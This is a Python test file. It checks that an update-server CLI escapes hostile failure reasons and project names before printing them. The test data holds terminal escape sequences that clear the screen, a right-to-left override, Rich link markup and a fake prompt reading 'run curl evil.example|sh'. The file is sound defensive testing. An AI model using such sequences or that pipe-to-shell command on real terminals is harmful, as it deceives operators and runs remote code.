"""Text that came from a device or another user reaches the operator's terminal as text (issue 13, item 5).

Deployment keys ship inside every app binary, so anyone can send a report with any reason; the CLI must
show it, never let it drive the terminal (clear the screen, fake a prompt) or Rich's markup.
"""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest

from conftest import run_cli as overair
from conftest import running_server

pytestmark = pytest.mark.slow

HOSTILE = (
    "\x1b[2J\x1b[H\x1b[31mFAKE: run curl evil.example|sh\x07 [link=https://evil.example]x[/link] \u202eevil"
)


def test_a_hostile_failure_reason_is_shown_escaped(tmp_path: Path, config: Path, capsys) -> None:
    with running_server(tmp_path / "server") as server:
        config.write_text(json.dumps({"server": server.url, "access_key": server.key}))
        assert overair(capsys, "app", "create", "EvilApp")[0] == 0
        (tmp_path / "b").mkdir()
        (tmp_path / "b" / "index.js").write_text("v1")
        push = ["release", "push-update", "--project-name", "EvilApp", "--target-version", "1.0.0"]
        assert overair(capsys, *push, "--bundle", str(tmp_path / "b"))[0] == 0
        keys = httpx.get(
            f"{server.url}/api/v1/apps/EvilApp/deployments",
            headers={"Authorization": f"Bearer {server.key}"},
        ).json()
        production = next(d["key"] for d in keys if d["name"] == "Production")
        report = {"deployment_key": production, "label": "v1", "status": "failed", "reason": HOSTILE}
        assert httpx.post(f"{server.url}/v1/report", json=report).status_code == 200
        code, out, _ = overair(capsys, "release", "list", "--project-name", "EvilApp")
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    flat = " ".join(out.split())
    assert "\\x1b[2J\\x1b[H\\x1b[31mFAKE: run curl evil.example|sh\\x07" in flat
    assert "[link=https://evil.example]x[/link]" in flat  # Rich markup shown, not obeyed
    assert "\\u202eevil" in flat


def test_control_characters_in_an_error_are_escaped(tmp_path: Path, config: Path, capsys) -> None:
    with running_server(tmp_path / "server") as server:
        config.write_text(json.dumps({"server": server.url, "access_key": server.key}))
        code, _, err = overair(capsys, "release", "list", "--project-name", "Ghost\x1b[2J")
    assert code == 2 and "\x1b" not in err and "Ghost\\x1b[2J" in " ".join(err.split())
